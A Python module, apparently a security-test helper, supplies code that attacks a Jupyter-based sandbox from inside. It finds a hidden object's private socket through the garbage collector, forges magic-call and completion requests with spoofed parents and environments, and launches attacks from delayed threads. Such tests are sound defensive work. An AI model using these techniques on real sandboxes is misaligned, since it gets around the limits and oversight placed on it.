"""Code that attacks from inside the sandbox. It uses only parts of the interpreter, as any package can.

`raw` sends a magic call as the interpreter does, with any content and for any parent, and returns the last
answer. `post` sends the content alone and waits for nothing.
"""

TOOLS = """
import gc, json, os, pathlib, socket, sys, threading, time, uuid
_magics = next(
    each for each in gc.get_objects()
    if {"_socket_path", "_environment"} <= set(getattr(each, "__dict__", ()))
)
_kernel = get_ipython().kernel

def post(content, parent=None):
    parent = _kernel.get_parent() if parent is None else parent
    _kernel.session.send(_kernel.iopub_socket, "daytona_magic", content, parent=parent)

def _ask(call_id, content, parent):
    "Post a request as a magic does, and return its outcome."
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(20)
        connection.connect(_magics._socket_path)
        connection.sendall(call_id.encode() + b"\\n")
        lines = connection.makefile("r")
        lines.readline()
        post(content, parent)
        for answer in map(json.loads, lines):
            if answer["type"] == "magic_end":
                return answer["outcome"]

def raw(name, line, cell=None, parent=None, **changed):
    call_id = uuid.uuid4().hex
    content = {
        "type": "magic_called", "call_id": call_id, "name": name, "line": line, "cell": cell,
        "assigned": False, "cwd": os.getcwd(), "environ": {}, "unset": [], "python": sys.executable,
    } | changed
    return _ask(call_id, content, parent)

def complete(name, text, parent):
    call_id = uuid.uuid4().hex
    content = {"type": "completion_wanted", "call_id": call_id, "name": name, "text": text, "of_cell": False}
    return _ask(call_id, content, parent)

outcomes = []
def later(attack, event):
    "Attack from a thread, when the event is set."
    def work():
        event.wait(20)
        try:
            outcomes.append(attack())
        except Exception as error:
            outcomes.append(repr(error))
    thread = threading.Thread(target=work, daemon=True)
    thread.start()
    return thread
"""
